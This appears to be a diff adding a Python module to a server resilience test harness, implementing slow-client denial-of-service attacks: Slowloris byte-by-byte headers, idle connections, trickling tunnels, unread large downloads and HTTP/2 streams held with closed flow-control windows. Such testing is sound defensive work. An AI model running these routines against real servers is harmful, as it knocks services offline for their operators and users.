@@ -1,0 +1,73 @@
+"""Clients that take their time: heads that come byte by byte, tunnels that hardly move, answers that nobody takes."""
+
+import frames
+from held import Answers, Stop, hold, hold_streams, open_many
+from http2 import Connection
+from target import ATTACKER, Target
+
+
+def heads(target: Target, stop: Stop, count: int) -> Answers:
+    """Each gets another byte every second (Slowloris)."""
+    answers = Answers()
+    begin = target.request("GET", "/", is_plain=True)[:-2]
+
+    def make(_: int):
+        connection = target.plain(ATTACKER)
+        connection.sendall(begin + b"X-Slow: ")
+        return connection
+
+    hold(open_many(count, make, answers, stop), answers, stop, tick=lambda connection: connection.send(b"z"))
+    return answers
+
+
+def silence(target: Target, stop: Stop, count: int) -> Answers:
+    """Connections on which nothing is sent."""
+    answers = Answers()
+    hold(open_many(count, lambda _: target.plain(ATTACKER), answers, stop), answers, stop)
+    return answers
+
+
+def tunnels(target: Target, stop: Stop, count: int, interval: float) -> Answers:
+    """Untouched tunnels through which one byte goes every few seconds."""
+    answers = Answers()
+
+    def make(_: int):
+        connection = target.tunnel(ATTACKER, target.tunnel_authority)
+        connection.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
+        return connection
+
+    opened = open_many(count, make, answers, stop)
+    hold(opened, answers, stop, tick=lambda connection: connection.send(b"z"), interval=interval)
+    return answers
+
+
+def takes_nothing(target: Target, stop: Stop, count: int) -> Answers:
+    """Downloads of 100 MiB of which nothing is read."""
+    answers, context = Answers(), target.context()
+    head = target.request("GET", "/download")
+
+    def make(_: int):
+        connection = target.dial(ATTACKER, context)
+        connection.sendall(head)
+        return connection
+
+    opened = open_many(count, make, answers, stop)
+    while not stop.wait(0.1):
+        pass
+    answers["waiting"] += len(opened)
+    return answers
+
+
+def takes_nothing_by_http2(target: Target, stop: Stop, connections: int) -> Answers:
+    """The same with 100 streams on each connection, which open no window beyond the first of 64 KiB."""
+    answers, context = Answers(), target.context("h2")
+
+    def make(_: int) -> Connection:
+        connection = Connection(target.dial(ATTACKER, context))
+        connection.pump(0.5)
+        for _ in range(100):
+            connection.begin(frames.request("GET", "/download", target.host), is_whole=True)
+        return connection
+
+    hold_streams(open_many(connections, make, answers, stop, at_once=4), answers, stop)
+    return answers
